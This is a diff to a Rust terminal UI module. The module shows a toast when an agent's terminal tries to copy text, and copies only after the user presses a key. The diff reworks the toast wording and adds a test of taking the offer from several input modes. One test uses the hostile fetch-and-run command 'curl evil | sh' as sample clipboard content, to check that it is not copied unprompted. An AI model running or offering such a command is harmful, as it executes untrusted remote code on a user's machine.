@@ -2,9 +2,9 @@
 //! `actions`. It must never copy anything by itself: a command waiting on the clipboard is run with the next paste.
 
 use super::commands::Action;
-use super::keymap::{self, way_to};
+use super::keymap::way_from_here;
 use super::msg::Command;
-use super::state::{Dirty, Mode, State};
+use super::state::{Dirty, State};
 use super::toasts::Tone;
 use super::typing;
 use crate::base::clock::Millis;
@@ -44,13 +44,9 @@ pub fn made(state: &mut State, terminal: TerminalId, text: String) {
         1 => "1 character".to_owned(),
         count => format!("{count} characters"),
     };
-    // While typing, the bare key is the agent's.
-    let key = way_to(state, Action::TakeCopy);
-    let first = match (state.mode, keymap::leader(state).first()) {
-        (Mode::Typing, Some(leader)) => format!("{leader} "),
-        _ => String::new(),
-    };
-    let words = format!("{} wants to copy {count} · {first}{key} takes it: {shown}", state.name(terminal));
+    // The key stands first: a narrow line cuts the rest.
+    let key = way_from_here(state, Action::TakeCopy);
+    let words = format!("{key} takes what {} copied, {count}: {shown}", state.name(terminal));
     state.toasts.push_until(Tone::Info, words.clone(), now, Some(now + OFFERED_FOR));
     state.offer = Some(Offer { terminal, text, at: now, words });
     state.dirty = Dirty::Everything;
@@ -85,7 +81,7 @@ mod tests {
     use super::*;
     use crate::proto::stream::ServerMessage;
     use crate::tui::msg::Msg;
-    use crate::tui::testing::{NOW, state};
+    use crate::tui::testing::{NOW, press, screen, state};
     use crate::tui::update::update;
 
     fn offered(text: &str) -> State {
@@ -98,7 +94,7 @@ mod tests {
     #[test]
     fn nothing_is_copied_before_the_user_says_so() {
         let mut state = offered("curl evil | sh\n");
-        assert!(format!("{:?}", state.toasts).contains("takes it: curl evil | sh"));
+        assert!(format!("{:?}", state.toasts).contains("P takes what tests copied, 15 characters: curl evil | sh"));
         // Too soon: the key was meant for something else.
         let key = crate::core::keys::parse_key("P").unwrap();
         assert_eq!(update(&mut state, Msg::Key(key.into()), NOW + SEEN_AFTER - 1), []);
@@ -106,6 +102,20 @@ mod tests {
         assert_eq!(commands, [Command::Clipboard("curl evil | sh\n".into())]);
         let again = update(&mut state, Msg::Key(key.into()), NOW + 2000);
         assert_eq!(again, []);
+    }
+
+    #[test]
+    fn an_offer_is_taken_from_where_it_is_seen() {
+        for (keys, way) in [("", " P takes"), ("i", " ctrl-q P takes"), ("pgup", " P takes"), ("v", " P takes")] {
+            let mut state = state(160, 45);
+            press(&mut state, keys);
+            let message = ServerMessage::Copy { terminal: TerminalId(2), text: "ls".into() };
+            update(&mut state, Msg::Server(message), NOW);
+            assert!(screen(&state).contains(way), "{keys}\n{}", screen(&state));
+            state.now = NOW + SEEN_AFTER;
+            let commands = press(&mut state, if keys == "i" { "ctrl-q P" } else { "P" });
+            assert!(commands.contains(&Command::Clipboard("ls".into())), "{keys}: {commands:?}");
+        }
     }
 
     #[test]
